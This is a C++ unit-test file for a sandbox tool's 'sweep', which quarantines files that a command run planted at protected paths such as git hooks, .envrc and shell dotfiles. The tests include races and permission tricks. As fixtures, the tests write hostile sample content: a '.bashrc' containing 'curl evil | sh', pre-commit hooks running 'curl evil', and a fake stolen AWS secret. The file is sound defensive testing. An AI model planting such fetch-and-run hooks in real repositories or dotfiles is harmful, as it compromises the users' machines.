// The sweep: what a run left at a missing protected path (or in place of a
// protected symlink) leaves the tree, whatever modes the command gave it,
// and is never copied. Sweeps that must run as an unprivileged owner run in
// a forked child (as uid 65534 when the tests run as root).
#include "repair/sweep.h"

#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <climits>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <sstream>
#include <string>

#include "testing/test_scratch_dir.h"
#include "base/unique_fd.h"

namespace corral {
namespace {

using ::corral::testing::TestTree;
using Outcome = SweepFinding::Outcome;

constexpr uid_t kNobody = 65534;

std::string LinkText(const std::string& path) {
  char text[PATH_MAX];
  ssize_t n = ::readlink(path.c_str(), text, sizeof text);
  return n < 0 ? std::string() : std::string(text, static_cast<size_t>(n));
}

mode_t ModeOf(const std::string& path) {
  struct stat st = {};
  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
  return st.st_mode & 07777;
}

void Chmod(const std::string& path, mode_t mode) { ASSERT_EQ(::chmod(path.c_str(), mode), 0) << path; }

void WriteAll(int fd, const std::string& text) {
  for (size_t done = 0; done < text.size();) {
    ssize_t n = ::write(fd, text.data() + done, text.size() - done);
    if (n <= 0) return;
    done += static_cast<size_t>(n);
  }
}

// How the forked child gets ready before it sweeps.
enum class Child {
  kOwner,          // the tree's owner: uid 65534 when the tests run as root
  kOwnerWithMount,  // the same, in a mount namespace of its own (for a bind mount)
};

class SweepTest : public ::testing::Test {
 protected:
  SweepTest() : ws_(tree_.Dir("ws")), state_(tree_.Dir("state")), quarantine_(state_ + "/quarantine/run") {}

  // `dir` as the state directory the sweep's quarantine goes below; none
  // (dir -1) when it cannot be opened or made.
  QuarantineHome Home(const std::string& dir) {
    ::mkdir(dir.c_str(), 0700);
    homes_.emplace_back(::open(dir.c_str(), O_PATH | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC));
    return QuarantineHome{homes_.back().get(), dir};
  }

  // The sweep, run in a forked child as the tree's owner. Root bypasses
  // every mode bit, so as root the tree is handed to uid 65534 first: the
  // command's chmod tricks work against an unprivileged caller only.
  // `prepare` runs in the child before the sweep (false: the child fails).
  std::vector<SweepFinding> SweepAsOwner(const ProtectedSet& set, const std::string& state,
                                         Child child = Child::kOwner,
                                         const std::function<bool()>& prepare = nullptr) {
    bool root = ::geteuid() == 0;
    QuarantineHome home = Home(state);
    if (root) ChownTree(tree_.path(), kNobody);
    if (root) ::lchown(state.c_str(), kNobody, kNobody);  // also when it is not in the tree
    int fds[2];
    EXPECT_EQ(::pipe2(fds, O_CLOEXEC), 0);
    UniqueFd read_end(fds[0]), write_end(fds[1]);
    uid_t uid = ::geteuid();
    gid_t gid = ::getegid();
    pid_t pid = ::fork();
    if (pid == 0) {
      read_end.Reset();
      if (child == Child::kOwnerWithMount) {
        if (root) {
          if (::unshare(CLONE_NEWNS) != 0) ::_exit(3);
        } else if (!EnterUserNamespace(uid, gid)) {
          ::_exit(3);
        }
        if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) ::_exit(4);
      }
      if (prepare && !prepare()) ::_exit(5);
      if (root && (::setgroups(0, nullptr) != 0 || ::setresgid(kNobody, kNobody, kNobody) != 0 ||
                   ::setresuid(kNobody, kNobody, kNobody) != 0)) {
        ::_exit(6);
      }
      std::ostringstream out;
      for (const SweepFinding& finding : SweepProtected(set, OpenSweepRoots(set), home, "run")) {
        out << static_cast<int>(finding.outcome) << '\t' << finding.path << '\t' << finding.what << '\t'
            << finding.moved_to << '\t' << finding.error << '\n';
      }
      WriteAll(write_end.get(), out.str());
      ::_exit(0);
    }
    write_end.Reset();
    std::string text;
    char buffer[4096];
    for (ssize_t n; (n = ::read(read_end.get(), buffer, sizeof buffer)) > 0;) {
      text.append(buffer, static_cast<size_t>(n));
    }
    int status = 0;
    EXPECT_EQ(::waitpid(pid, &status, 0), pid);
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "child status " << status;
    if (root) ChownTree(tree_.path(), 0);
    std::vector<SweepFinding> findings;
    std::istringstream lines(text);
    for (std::string line; std::getline(lines, line);) {
      std::vector<std::string> fields;
      std::istringstream parts(line);
      for (std::string field; std::getline(parts, field, '\t');) fields.push_back(field);
      fields.resize(5);
      findings.push_back({fields[1], fields[2], static_cast<Outcome>(std::stoi(fields[0])), fields[3], fields[4], {}});
    }
    return findings;
  }

  static void ChownTree(const std::string& top, uid_t owner) {
    ASSERT_EQ(::lchown(top.c_str(), owner, owner), 0);
    std::error_code ec;
    for (auto it = std::filesystem::recursive_directory_iterator(top, ec);
         !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
      ASSERT_EQ(::lchown(it->path().c_str(), owner, owner), 0) << it->path();
    }
  }

  // An unprivileged user's own user namespace, mapping it to itself, for a
  // mount namespace it may change.
  static bool EnterUserNamespace(uid_t uid, gid_t gid) {
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return false;
    auto write = [](const char* file, const std::string& text) {
      UniqueFd fd(::open(file, O_WRONLY | O_CLOEXEC));
      return fd && ::write(fd.get(), text.data(), text.size()) == static_cast<ssize_t>(text.size());
    };
    return write("/proc/self/setgroups", "deny") &&
           write("/proc/self/uid_map", std::to_string(uid) + " " + std::to_string(uid) + " 1") &&
           write("/proc/self/gid_map", std::to_string(gid) + " " + std::to_string(gid) + " 1");
  }

  TestTree tree_;
  std::string ws_;
  std::string state_;
  std::string quarantine_;
  std::vector<UniqueFd> homes_;
};

TEST_F(SweepTest, NothingChangedNothingMoved) {
  tree_.Dir("ws/.git/hooks");
  tree_.File("ws/.git/config");
  tree_.File("ws/.bashrc", "x");
  tree_.File("ws/dotfiles/zshrc");
  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
  ProtectedSet set = DiscoverProtected({ws_});
  EXPECT_TRUE(SweepProtected(set, OpenSweepRoots(set), Home(state_), "run").empty());
  EXPECT_FALSE(TestTree::Exists(quarantine_));
  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
}

TEST_F(SweepTest, CreatedEnvrcIsQuarantined) {
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.envrc", "export AWS_SECRET=stolen\n");

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
  EXPECT_EQ(findings[0].what, "created");
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined);
  EXPECT_EQ(findings[0].error, "");
  EXPECT_EQ(findings[0].moved_to, quarantine_ + ws_ + "/.envrc");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.envrc"));
  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "export AWS_SECRET=stolen\n");
  EXPECT_FALSE(AnyLeftInPlace(findings));
}

TEST_F(SweepTest, CreatedHooksDirectoryIsQuarantinedWhole) {
  tree_.Dir("ws/.git");
  tree_.File("ws/.git/config");
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
  EXPECT_TRUE(TestTree::Exists(ws_ + "/.git/config"));
  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
}

TEST_F(SweepTest, CreatedGitSymlinkIsMovedWithoutTouchingItsTarget) {
  ProtectedSet set = DiscoverProtected({ws_});
  std::string elsewhere = tree_.Dir("elsewhere");
  tree_.File("elsewhere/hooks/pre-commit", "keep me\n");
  tree_.Symlink("ws/.git", elsewhere);

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.git");
  EXPECT_EQ(findings[0].error, "");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
  EXPECT_EQ(LinkText(findings[0].moved_to), elsewhere) << "the symlink itself was moved";
  EXPECT_EQ(TestTree::Read(elsewhere + "/hooks/pre-commit"), "keep me\n");
}

TEST_F(SweepTest, ReplacedSymlinkIsRestored) {
  tree_.File("ws/dotfiles/bashrc", "alias ls=ls\n");
  tree_.Symlink("ws/.bashrc", "dotfiles/bashrc");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(::unlink((ws_ + "/.bashrc").c_str()), 0);
  tree_.File("ws/.bashrc", "curl evil | sh\n");

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].what, "replaced");
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined);
  EXPECT_EQ(findings[0].error, "");
  EXPECT_EQ(LinkText(ws_ + "/.bashrc"), "dotfiles/bashrc");
  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "curl evil | sh\n");
  EXPECT_EQ(TestTree::Read(ws_ + "/dotfiles/bashrc"), "alias ls=ls\n");
}

TEST_F(SweepTest, RetargetedAndRemovedSymlinksAreRestored) {
  tree_.File("ws/dotfiles/zshrc");
  tree_.File("ws/dotfiles/profile");
  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
  tree_.Symlink("ws/.profile", "dotfiles/profile");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(::unlink((ws_ + "/.zshrc").c_str()), 0);
  tree_.Symlink("ws/.zshrc", "/etc/evil");
  ASSERT_EQ(::unlink((ws_ + "/.profile").c_str()), 0);

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
  EXPECT_EQ(LinkText(ws_ + "/.profile"), "dotfiles/profile");
  for (const SweepFinding& finding : findings) {
    EXPECT_EQ(finding.error, "") << finding.path;
    bool removed = finding.path == ws_ + "/.profile";
    EXPECT_EQ(finding.what, removed ? "removed" : "replaced") << finding.path;
    EXPECT_EQ(finding.outcome, removed ? Outcome::kNone : Outcome::kQuarantined) << finding.path;
  }
}

// The command makes what it created read-only, and the caller's .git above
// it too: neither a move nor a delete works until the owner bits are back.
TEST_F(SweepTest, ReadOnlyCreatedDirectoryUnderAReadOnlyParentIsQuarantined) {
  tree_.Dir("ws/.git");
  tree_.File("ws/.git/config");
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
  tree_.Dir("ws/.git/hooks/deeper");
  Chmod(ws_ + "/.git/hooks/deeper", 0);
  Chmod(ws_ + "/.git/hooks", 0555);
  Chmod(ws_ + "/.git", 0555);

  std::vector<SweepFinding> findings = SweepAsOwner(set, state_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
  EXPECT_EQ(ModeOf(quarantine_ + ws_ + "/.git/hooks"), 0755u) << "the owner can look at and delete it";
  EXPECT_EQ(ModeOf(ws_ + "/.git"), 0555u) << "the caller's directory is left with the mode it had";
  EXPECT_EQ(ModeOf(quarantine_ + ws_ + "/.git/hooks/deeper"), 0u) << "below the top, the command's modes stay";
  Chmod(ws_ + "/.git", 0755);
  Chmod(quarantine_ + ws_ + "/.git/hooks/deeper", 0755);  // so the tree can be removed by a non-root owner
}

TEST_F(SweepTest, ParentWithoutTheSearchBitIsStillSwept) {
  tree_.Dir("ws/.git");
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.git/hooks/post-checkout", "#!/bin/sh\n");
  Chmod(ws_ + "/.git", 0);

  std::vector<SweepFinding> findings = SweepAsOwner(set, state_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  EXPECT_EQ(ModeOf(ws_ + "/.git"), 0u);
  Chmod(ws_ + "/.git", 0755);
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
}

// The state directory on another filesystem: the move stays on the tree's
// own filesystem, under a name no tool reads, and nothing is copied (a
// sparse file stays sparse).
TEST_F(SweepTest, OnAnotherFilesystemItMovesBesideTheTreeAndCopiesNothing) {
  struct stat here, shm;
  ASSERT_EQ(::stat(ws_.c_str(), &here), 0);
  ASSERT_EQ(::stat("/dev/shm", &shm), 0) << "the test needs /dev/shm, a filesystem other than the tree's";
  ASSERT_NE(here.st_dev, shm.st_dev) << "the test needs /dev/shm on a filesystem other than " << ws_;
  std::string quarantine = "/dev/shm/corral-unit-quarantine-" + std::to_string(::getpid());

  ProtectedSet set = DiscoverProtected({ws_});
  std::string big = tree_.File("ws/.vscode/big");
  ASSERT_EQ(::truncate(big.c_str(), off_t{1} << 30), 0);
  Chmod(ws_ + "/.vscode", 0555);

  std::vector<SweepFinding> findings = SweepAsOwner(set, quarantine);
  std::filesystem::remove_all(quarantine);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  std::string moved = ws_ + "/.corral-quarantine/run/%2Evscode";
  EXPECT_EQ(findings[0].moved_to, moved);
  EXPECT_NE(findings[0].error.find("Invalid cross-device link"), std::string::npos) << findings[0].error;
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.vscode"));
  struct stat st;
  ASSERT_EQ(::stat((moved + "/big").c_str(), &st), 0);
  EXPECT_EQ(st.st_size, off_t{1} << 30);
  EXPECT_LT(st.st_blocks, 1024) << "still sparse: moved, not copied";
  EXPECT_EQ(ModeOf(ws_ + "/.corral-quarantine/run"), 0700u);
}

TEST_F(SweepTest, AQuarantineNameTheRunTookIsNotUsed) {
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.envrc", "curl evil\n");
  tree_.File("ws/.corral-quarantine", "planted by the run\n");
  tree_.File("blocker", "x");  // the state directory cannot be created under a file

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(tree_.Join("blocker/state")), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  EXPECT_EQ(findings[0].moved_to, ws_ + "/.corral-quarantine-run/%2Eenvrc");
  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "curl evil\n");
  EXPECT_EQ(TestTree::Read(ws_ + "/.corral-quarantine"), "planted by the run\n");
}

// Nothing is ever deleted: when neither quarantine can be used, it is
// renamed in its own directory (never another filesystem), under a name no
// tool reads.
TEST_F(SweepTest, WhatCannotBeMovedElsewhereIsRenamedInItsOwnDirectory) {
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("blocker", "x");
  tree_.File("ws/.corral-quarantine", "x");
  tree_.File("ws/.corral-quarantine-run", "x");
  // Deep, and read-only all the way.
  std::string dir = ws_ + "/.idea";
  for (int i = 0; i < 300; ++i) dir += "/d";
  std::filesystem::create_directories(dir);
  tree_.File("ws/.idea/workspace.xml", "<tasks/>");
  for (std::string path = dir; path != ws_; path = std::filesystem::path(path).parent_path().string()) {
    Chmod(path, 0555);
  }

  std::vector<SweepFinding> findings = SweepAsOwner(set, tree_.Join("blocker/state"));
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  std::string aside = ws_ + "/corral-quarantined-run-%2Eidea";
  EXPECT_EQ(findings[0].moved_to, aside);
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.idea"));
  EXPECT_EQ(TestTree::Read(aside + "/workspace.xml"), "<tasks/>");
  for (std::string path = aside; TestTree::Exists(path); path += "/d") Chmod(path, 0755);
}

// A path that existed at the start and holds another object at the end (the
// original was moved away meanwhile, by another run's sweep) is taken out;
// one that still holds the original is not touched.
TEST_F(SweepTest, ANewObjectAtAnExistingPathIsTakenOutAndTheOriginalIsNot) {
  tree_.File("ws/.envrc", "the user's\n");
  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\n");
  tree_.File("ws/.git/config", "[core]\n");
  tree_.File("ws/.npmrc", "the user's too\n");
  ProtectedSet set = DiscoverProtected({ws_});
  // .envrc and the whole .git are replaced; .npmrc is left as it was.
  std::filesystem::rename(ws_ + "/.envrc", tree_.Join("away-envrc"));
  std::filesystem::rename(ws_ + "/.git", tree_.Join("away-git"));
  tree_.File("ws/.envrc", "curl evil\n");
  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
  EXPECT_EQ(findings[1].path, ws_ + "/.git") << "the replaced directory goes whole";
  for (const SweepFinding& finding : findings) {
    EXPECT_EQ(finding.what, "recreated");
    EXPECT_EQ(finding.outcome, Outcome::kQuarantined) << finding.error;
  }
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.envrc"));
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
  EXPECT_EQ(TestTree::Read(ws_ + "/.npmrc"), "the user's too\n");
  ProtectedSet again = DiscoverProtected({ws_});
  EXPECT_TRUE(SweepProtected(again, OpenSweepRoots(again), Home(state_), "again").empty()) << "nothing changed";
}

// When nothing works (here: it is a mount point, which can be neither
// renamed nor removed), the finding says it is still there.
TEST_F(SweepTest, WhatCannotBeRemovedIsReportedLeftInPlace) {
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.Dir("ws/.claude");
  std::string cover = tree_.Dir("cover");
  std::string target = ws_ + "/.claude";
  std::vector<SweepFinding> findings = SweepAsOwner(set, state_, Child::kOwnerWithMount, [&] {
    return ::mount(cover.c_str(), target.c_str(), nullptr, MS_BIND, nullptr) == 0;
  });
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, target);
  EXPECT_EQ(findings[0].outcome, Outcome::kLeftInPlace);
  EXPECT_NE(findings[0].error.find("Device or resource busy"), std::string::npos) << findings[0].error;
  EXPECT_TRUE(AnyLeftInPlace(findings));
  EXPECT_EQ(OutcomeName(findings[0].outcome), "left");
}

// Another run swaps the entry between the walk and the move: the user's
// file is renamed to where the run's .envrc was. Looking again from the root
// before the move sees another object there and leaves it in place; nothing
// of the user's goes to the quarantine.
// A writable root gone after the run (deleted, or renamed by the user):
// one finding for the root, never one per protected path, and never a
// claim that anything was checked or swept there.
TEST_F(SweepTest, AGoneRootIsOneUnreachableFindingNamingWhatWasNotChecked) {
  tree_.Dir("ws/.git/hooks");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_GT(set.paths.size(), 5u);
  ASSERT_EQ(::rename(ws_.c_str(), (tree_.path() + "/moved").c_str()), 0);

  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_);
  EXPECT_EQ(findings[0].what, "unreachable");
  EXPECT_EQ(findings[0].outcome, Outcome::kLeftInPlace);
  EXPECT_EQ(findings[0].error, "the writable root " + ws_ + " is gone (deleted, or moved away)");
  EXPECT_TRUE(findings[0].detail.starts_with(std::to_string(set.paths.size()) + " protected paths not checked: "))
      << findings[0].detail;
  EXPECT_TRUE(AnyLeftInPlace(findings));
  EXPECT_FALSE(TestTree::Exists(quarantine_));
}

TEST_F(SweepTest, AnEntrySwappedAfterItWasLocatedIsLeftInPlace) {
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.envrc", "made by the run\n");
  tree_.File("ws/notes", "the user's\n");
  bool swapped = false;
  SweepRacer racer = [&](SweepStep step, const std::string& path) {
    if (step != SweepStep::kLocated || swapped) return;
    swapped = true;
    EXPECT_EQ(path, ws_ + "/.envrc");
    EXPECT_EQ(::rename((ws_ + "/.envrc").c_str(), (ws_ + "/moved-envrc").c_str()), 0);
    EXPECT_EQ(::rename((ws_ + "/notes").c_str(), (ws_ + "/.envrc").c_str()), 0);
  };
  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run", racer);
  ASSERT_TRUE(swapped);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kLeftInPlace);
  EXPECT_NE(findings[0].error.find("the tree moved during the sweep"), std::string::npos) << findings[0].error;
  EXPECT_EQ(TestTree::Read(ws_ + "/.envrc"), "the user's\n") << "the user's file was moved";
  EXPECT_FALSE(TestTree::Exists(quarantine_ + ws_ + "/.envrc"));
}

// Another run swaps a directory on the way for a symlink out of the
// workspace after the sweep's last look and before its move: the move acts
// on the directory its descriptors hold, so the run's hooks go to the
// quarantine and the directory the symlink points at is never touched.
TEST_F(SweepTest, ASymlinkSwappedInBeforeTheMoveNeverRedirectsIt) {
  tree_.Dir("ws/.git");
  tree_.File("ws/.git/config");
  ProtectedSet set = DiscoverProtected({ws_});
  tree_.File("ws/.git/hooks/pre-commit", "made by the run\n");
  std::string outside = tree_.Dir("outside");
  tree_.File("outside/hooks/pre-commit", "the user's own hook\n");
  bool swapped = false;
  SweepRacer racer = [&](SweepStep step, const std::string& path) {
    if (step != SweepStep::kChecked || swapped) return;
    swapped = true;
    EXPECT_EQ(path, ws_ + "/.git/hooks");
    EXPECT_EQ(::rename((ws_ + "/.git").c_str(), (ws_ + "/git-real").c_str()), 0);
    EXPECT_EQ(::symlink(outside.c_str(), (ws_ + "/.git").c_str()), 0);
  };
  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run", racer);
  ASSERT_TRUE(swapped);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
  EXPECT_EQ(TestTree::Read(outside + "/hooks/pre-commit"), "the user's own hook\n") << "the move left the workspace";
  EXPECT_FALSE(TestTree::Exists(ws_ + "/git-real/hooks"));
  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "made by the run\n");
}

}  // namespace
}  // namespace corral
